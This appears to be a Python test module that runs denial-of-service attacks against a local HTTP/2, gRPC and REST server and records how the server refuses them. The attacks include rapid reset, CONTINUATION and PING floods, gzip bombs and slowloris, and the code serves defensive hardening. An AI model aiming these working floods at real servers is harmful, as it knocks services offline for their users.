"""The attack table's attacks, each against a running server.

Every attack is raw sockets on 127.0.0.1, bounded in bytes and seconds, and
returns what the server answered with (its refusal): a GOAWAY code, a
RST_STREAM code, a grpc-status or an HTTP status. `Size` scales them: the
test suite runs them small, attack_table.py at the table's sizes.
"""

from __future__ import annotations

from collections.abc import Callable
import dataclasses
import socket
import threading
import time
import zlib

import hpack

from tensorflow_serving.util.net.grpc_h2 import frames as fr

ECHO = "/test.Echo/Echo"
_ERRORS = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}


@dataclasses.dataclass(frozen=True)
class Size:
  """How big each attack is; `full()` is the full-size table."""

  header_block: int = 256 << 10
  continuation: int = 32 << 20
  length_prefix_bytes: int = 16 << 20
  grpc_bomb: int = 256 << 10  # compressed; ~1000x inflated
  rest_bomb: int = 256 << 10
  rest_chunked: int = 32 << 20
  rest_url: int = 4 << 20
  reset_connections: int = 2
  reset_seconds: float = 1.5
  open_streams: int = 5000
  big_header_streams: int = 1000
  idle_connections: int = 300
  slowloris: int = 100
  flood_frames: int = 5000
  bad_connections: int = 300

  @classmethod
  def full(cls) -> Size:
    return cls(
        header_block=3 << 20,
        continuation=1 << 30,
        length_prefix_bytes=1 << 30,
        grpc_bomb=1 << 20,
        rest_bomb=2 << 20,
        rest_chunked=1 << 30,
        rest_url=100 << 20,
        reset_connections=4,
        reset_seconds=10.0,
        open_streams=200_000,
        big_header_streams=20_000,
        idle_connections=20_000,
        slowloris=1000,
        flood_frames=100_000,
        bad_connections=5000,
    )


# How long one send may wait for a server that is not reading.
_SEND_TIMEOUT_S = 5.0


class RawH2:
  """A client speaking raw frames, reading what the server answers."""

  def __init__(self, port: int, timeout_s: float = 10.0):
    self.sock = socket.create_connection(("127.0.0.1", port), timeout_s)
    self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    self._decoder = hpack.Decoder(max_header_list_size=1 << 20)
    self._buffer = b""
    self.goaway: int | None = None
    self.resets: dict[int, int] = {}
    self.statuses: dict[int, int] = {}
    # The server's flow-control windows for what we send (stream 1 only).
    self.window = 65535
    self.stream_window = 65535
    self.closed = False
    self.send(
        fr.PREFACE + fr.settings({}) + fr.window_update(0, (1 << 30) - 65535)
    )

  def send(self, data: bytes) -> bool:
    if self.closed:
      return False
    try:
      # poll() leaves a 0.1 ms timeout on the socket: a server that is
      # briefly not reading (its write side backed up) must not read as a
      # closed connection.
      self.sock.settimeout(_SEND_TIMEOUT_S)
      self.sock.sendall(data)
      return True
    except OSError:
      self.closed = True
      return False

  def poll(self, timeout_s: float = 0.0) -> None:
    """Reads what has arrived (waiting up to `timeout_s` for something)."""
    self.sock.settimeout(timeout_s if timeout_s > 0 else 0.0001)
    try:
      while True:
        data = self.sock.recv(1 << 20)
        if not data:
          self.closed = True
          break
        self._buffer += data
        self._parse()
        self.sock.settimeout(0.0001)
    except (TimeoutError, BlockingIOError):
      pass
    except OSError:
      self.closed = True

  def _parse(self) -> None:
    buffer = self._buffer
    pos = 0
    while len(buffer) - pos >= 9:
      high, low, kind, flags, stream_id = fr.HEADER.unpack_from(buffer, pos)
      length = high << 16 | low
      if len(buffer) - pos - 9 < length:
        break
      payload = buffer[pos + 9 : pos + 9 + length]
      pos += 9 + length
      if kind == fr.GOAWAY:
        self.goaway = fr.U32.unpack_from(payload, 4)[0]
      elif kind == fr.WINDOW_UPDATE:
        increment = fr.U32.unpack(payload)[0]
        if stream_id == 0:
          self.window += increment
        elif stream_id == 1:
          self.stream_window += increment
      elif kind == fr.SETTINGS and not flags & fr.FLAG_ACK:
        for i in range(0, len(payload), 6):
          key, value = fr.SETTING.unpack_from(payload, i)
          if key == fr.SETTINGS_INITIAL_WINDOW_SIZE:
            self.stream_window += value - 65535
      elif kind == fr.RST_STREAM:
        self.resets[stream_id] = fr.U32.unpack(payload)[0]
      elif kind == fr.HEADERS:
        try:
          headers = dict(self._decoder.decode(payload, raw=True))
        except Exception:  # pylint: disable=broad-except
          continue
        if b"grpc-status" in headers:
          self.statuses[stream_id] = int(headers[b"grpc-status"])
    self._buffer = buffer[pos:]

  def wait(self, done: Callable[[], bool], timeout_s: float) -> None:
    deadline = time.monotonic() + timeout_s
    while not done() and not self.closed and time.monotonic() < deadline:
      self.poll(0.05)

  def outcome(self) -> str:
    parts = []
    if self.statuses:
      codes = sorted(set(self.statuses.values()))
      parts.append("grpc-status " + ",".join(map(str, codes)))
    if self.resets:
      names = sorted({_ERRORS.get(c, str(c)) for c in self.resets.values()})
      parts.append("RST_STREAM " + ",".join(names))
    if self.goaway is not None:
      parts.append("GOAWAY " + _ERRORS.get(self.goaway, str(self.goaway)))
    if not parts:
      parts.append("closed" if self.closed else "no answer")
    return "; ".join(parts)

  def close(self) -> None:
    self.sock.close()


def _request_block(extra: bytes = b"", encoding: str | None = None) -> bytes:
  block = fr.request_header_block(ECHO, "localhost") + extra
  if encoding:
    block += fr.literal("grpc-encoding", encoding)
  return block


# --- HTTP/2 and gRPC --------------------------------------------------------


def hpack_tiny_literals(port: int, size: Size) -> str:
  """One header block of `size.header_block` bytes of 1-byte literals."""
  client = RawH2(port)
  block = _request_block(b"\x00\x01a\x01b" * (size.header_block // 5))
  client.send(fr.header_frames(1, block, True, fr.DEFAULT_MAX_FRAME))
  client.wait(lambda: client.goaway is not None, 10)
  client.close()
  return client.outcome()


def continuation_flood(port: int, size: Size) -> str:
  """HEADERS, then CONTINUATION frames forever (up to `size.continuation`)."""
  client = RawH2(port)
  client.send(fr.frame(fr.HEADERS, 0, 1, _request_block()))
  chunk = fr.frame(fr.CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000)
  sent = 0
  batch = chunk * 64
  while sent < size.continuation and client.send(batch):
    sent += len(batch)
    client.poll()
    if client.goaway is not None:
      break
  client.wait(lambda: client.goaway is not None, 5)
  client.close()
  return client.outcome()


def length_prefix(port: int, size: Size, prefix: int = 0xFFFFFFFF) -> str:
  """A message whose prefix claims `prefix` bytes, sent without END_STREAM."""
  client = RawH2(port)
  client.send(fr.header_frames(1, _request_block(), False, 16384))
  client.send(fr.frame(fr.DATA, 0, 1, b"\x00" + fr.U32.pack(prefix)))
  chunk = fr.frame(fr.DATA, 0, 1, b"\x00" * 16000) * 16
  sent = 0
  client.sock.settimeout(0.5)
  while sent < size.length_prefix_bytes and not client.statuses:
    if not client.send(chunk):
      break
    sent += len(chunk)
    client.poll()
  client.wait(lambda: bool(client.statuses), 5)
  client.close()
  return client.outcome()


def held_within_budget(
    port: int, size: Size, prefix: int, seconds: float = 3.0
) -> str:
  """A message the limits allow, sent as fast as the windows let it, never
  finished: the server must stop granting window at its budget."""
  del size  # The server's budget sizes this one.
  client = RawH2(port)
  client.send(fr.header_frames(1, _request_block(), False, 16384))
  client.send(fr.frame(fr.DATA, 0, 1, b"\x00" + fr.U32.pack(prefix)))
  client.window -= 5
  client.stream_window -= 5
  sent = 5
  stop = time.monotonic() + seconds
  payload = b"\x00" * 16384
  while time.monotonic() < stop and not client.statuses and not client.closed:
    room = min(client.window, client.stream_window, prefix + 5 - sent)
    if room < 16384:
      client.poll(0.05)  # waiting for WINDOW_UPDATE
      continue
    burst = []
    while room >= 16384 and len(burst) < 64:
      burst.append(fr.frame(fr.DATA, 0, 1, payload))
      room -= 16384
    if not client.send(b"".join(burst)):
      break
    count = 16384 * len(burst)
    sent += count
    client.window -= count
    client.stream_window -= count
    client.poll()
  client.close()
  if client.statuses or client.goaway is not None:
    return client.outcome()
  return f"window withheld after {sent >> 20} MiB sent"


def zero_window_reader(port: int, size: Size, seconds: float = 3.0) -> str:
  """Asks for big answers and never takes them (its window stays zero).

  The answers wait in the server for window; past the buffer budget the
  server must stop reading this connection's requests.
  """
  del size  # The server's budget sizes this one.
  client = RawH2(port)
  client.send(fr.settings({fr.SETTINGS_INITIAL_WINDOW_SIZE: 0}))
  block = _request_block()
  message = fr.grpc_message(b"\x00" * (512 << 10))
  chunks = [message[i : i + 16384] for i in range(0, len(message), 16384)]
  stream_id = 1
  requested = 0
  client.sock.settimeout(0.5)
  stop = time.monotonic() + seconds
  while time.monotonic() < stop and requested < (1 << 30):
    request = fr.header_frames(stream_id, block, False, 16384) + b"".join(
        fr.frame(
            fr.DATA,
            fr.FLAG_END_STREAM if i == len(chunks) - 1 else 0,
            stream_id,
            chunk,
        )
        for i, chunk in enumerate(chunks)
    )
    try:
      client.sock.sendall(request)
    except TimeoutError:
      break  # the server stopped reading: back-pressure
    except OSError:
      client.closed = True
      break
    stream_id += 2
    requested += len(message)
  outcome = f"reading paused after {requested >> 20} MiB of answers asked"
  client.poll(0.2)
  client.close()
  if client.goaway is not None or client.statuses:
    return client.outcome()
  return outcome


def grpc_gzip_bomb(port: int, size: Size) -> str:
  """One gzip message of `size.grpc_bomb` bytes that inflates ~1000x."""
  bomb = _bomb(size.grpc_bomb)
  client = RawH2(port)
  message = b"\x01" + fr.U32.pack(len(bomb)) + bomb
  client.send(
      fr.header_frames(1, _request_block(encoding="gzip"), False, 16384)
  )
  for pos in range(0, len(message), 16384):
    end = pos + 16384 >= len(message)
    client.send(
        fr.frame(
            fr.DATA,
            fr.FLAG_END_STREAM if end else 0,
            1,
            message[pos : pos + 16384],
        )
    )
  client.wait(lambda: bool(client.statuses), 20)
  client.close()
  return client.outcome()


def rapid_reset(port: int, size: Size) -> str:
  """HEADERS then RST_STREAM at once, as fast as possible, per connection."""
  outcomes = []

  def one():
    client = RawH2(port)
    block = _request_block()
    stream_id = 1
    stop = time.monotonic() + size.reset_seconds
    while time.monotonic() < stop and client.goaway is None:
      burst = []
      for _ in range(100):
        burst.append(fr.header_frames(stream_id, block, False, 16384))
        burst.append(fr.rst_stream(stream_id, fr.CANCEL))
        stream_id += 2
      if not client.send(b"".join(burst)):
        break
      client.poll()
    client.wait(lambda: client.goaway is not None, 2)
    outcomes.append(client.outcome())
    client.close()

  threads = [
      threading.Thread(target=one) for _ in range(size.reset_connections)
  ]
  for thread in threads:
    thread.start()
  for thread in threads:
    thread.join()
  return (
      sorted(outcomes)[0]
      if len(set(outcomes)) == 1
      else " | ".join(sorted(set(outcomes)))
  )


def open_streams(port: int, size: Size, header_bytes: int = 0) -> str:
  """Streams opened and never finished (optionally with big headers)."""
  client = RawH2(port)
  extra = fr.literal("x-pad", "p" * header_bytes) if header_bytes else b""
  block = _request_block(extra)
  count = size.big_header_streams if header_bytes else size.open_streams
  stream_id = 1
  for _ in range(0, count, 100):
    burst = b"".join(
        fr.header_frames(stream_id + 2 * i, block, False, 16384)
        for i in range(100)
    )
    stream_id += 200
    if not client.send(burst):
      break
    client.poll()
    if client.goaway is not None:
      break
  client.wait(lambda: client.goaway is not None, 1)
  client.close()
  return client.outcome()


def ping_flood(port: int, size: Size) -> str:
  client = RawH2(port)
  ping = fr.frame(fr.PING, 0, 0, b"12345678") * 100
  for _ in range(0, size.flood_frames, 100):
    if not client.send(ping):
      break
    client.poll()
    if client.goaway is not None:
      break
  client.wait(lambda: client.goaway is not None, 2)
  client.close()
  return client.outcome()


def settings_flood(port: int, size: Size) -> str:
  client = RawH2(port)
  frame = fr.settings({fr.SETTINGS_ENABLE_PUSH: 0}) * 100
  for _ in range(0, size.flood_frames, 100):
    if not client.send(frame):
      break
    client.poll()
    if client.goaway is not None:
      break
  client.wait(lambda: client.goaway is not None, 2)
  client.close()
  return client.outcome()


def idle_connections(
    grpc_port: int, rest_port: int, size: Size, wait_s: float
) -> str:
  """TCP connections that never send a byte, plus REST slowloris clients.

  Returns how many the server closed within `wait_s`.
  """
  socks = []
  for i in range(size.idle_connections):
    try:
      socks.append(socket.create_connection(("127.0.0.1", grpc_port), 5))
    except OSError:
      break
    if i < size.slowloris:
      try:
        slow = socket.create_connection(("127.0.0.1", rest_port), 5)
        slow.sendall(b"GET /v1/echo HTTP/1.1\r\nX-A: ")
        socks.append(slow)
      except OSError:
        pass
  deadline = time.monotonic() + wait_s
  open_socks = set(socks)
  tick = 0
  while open_socks and time.monotonic() < deadline:
    for sock in list(open_socks):
      sock.settimeout(0.001)
      try:
        data = sock.recv(65536)
        if not data:
          open_socks.discard(sock)
      except TimeoutError:
        if tick % 10 == 0 and sock.getpeername()[1] == rest_port:
          try:
            sock.send(b"a")  # a slowloris byte now and then
          except OSError:
            open_socks.discard(sock)
      except OSError:
        open_socks.discard(sock)
    tick += 1
    time.sleep(0.1)
  closed = len(socks) - len(open_socks)
  for sock in socks:
    sock.close()
  return f"closed {closed}/{len(socks)}"


def bad_connections(port: int, size: Size) -> str:
  """Connections that send garbage: each one used to log a warning."""
  for _ in range(size.bad_connections):
    try:
      with socket.create_connection(("127.0.0.1", port), 5) as sock:
        sock.sendall(b"GET / HTTP/1.1\r\n\r\n")
        sock.settimeout(2)
        while sock.recv(4096):
          pass
    except OSError:
      pass
  return f"{size.bad_connections} connections refused"


# --- REST -------------------------------------------------------------------


def _http_status(sock: socket.socket, timeout_s: float = 10.0) -> str:
  sock.settimeout(timeout_s)
  data = b""
  try:
    while b"\r\n" not in data:
      chunk = sock.recv(4096)
      if not chunk:
        break
      data += chunk
  except OSError:
    pass
  line = data.split(b"\r\n", 1)[0].decode("latin-1")
  return f"HTTP {line.split(' ', 1)[1]}" if line else "closed"


def _send_until_answer(sock: socket.socket, chunks, limit: int) -> None:
  sock.setblocking(False)
  sent = 0
  for chunk in chunks:
    if sent >= limit:
      break
    view = memoryview(chunk)
    while view:
      try:
        count = sock.send(view)
        view = view[count:]
        sent += count
      except BlockingIOError:
        try:
          if sock.recv(1, socket.MSG_PEEK):
            return  # the server answered
        except BlockingIOError:
          time.sleep(0.005)
      except OSError:
        return


def _repeat(chunk: bytes):
  while True:
    yield chunk


def rest_gzip_bomb(port: int, size: Size) -> str:
  bomb = _bomb(size.rest_bomb)
  with socket.create_connection(("127.0.0.1", port), 10) as sock:
    sock.sendall(
        b"POST /v1/echo HTTP/1.1\r\nContent-Encoding: gzip\r\n"
        b"Content-Length: %d\r\n\r\n" % len(bomb) + bomb
    )
    return _http_status(sock, 30)


def rest_chunked(port: int, size: Size) -> str:
  with socket.create_connection(("127.0.0.1", port), 10) as sock:
    sock.sendall(
        b"POST /v1/echo HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b"10000\r\n" + b"z" * 0x10000 + b"\r\n"
    _send_until_answer(sock, _repeat(chunk * 16), size.rest_chunked)
    return _http_status(sock)


def rest_url(port: int, size: Size) -> str:
  with socket.create_connection(("127.0.0.1", port), 10) as sock:
    sock.sendall(b"GET /")
    _send_until_answer(sock, _repeat(b"a" * (1 << 20)), size.rest_url)
    return _http_status(sock)


def rest_big_number(port: int, path: str, body: bytes) -> str:
  """A JSON body with `10**400` in it (for the model server's REST API)."""
  with socket.create_connection(("127.0.0.1", port), 10) as sock:
    sock.sendall(
        b"POST %s HTTP/1.1\r\nContent-Length: %d\r\n\r\n"
        % (path.encode(), len(body))
        + body
    )
    return _http_status(sock)


def _bomb(compressed_size: int) -> bytes:
  """Gzip of zeros, about `compressed_size` bytes (zlib reaches ~1030:1)."""
  out = zlib.compressobj(9, zlib.DEFLATED, 31)
  parts = []
  total = 0
  zeros = b"\0" * (1 << 20)
  while total < compressed_size:
    part = out.compress(zeros)
    parts.append(part)
    total += len(part)
  parts.append(out.flush())
  return b"".join(parts)
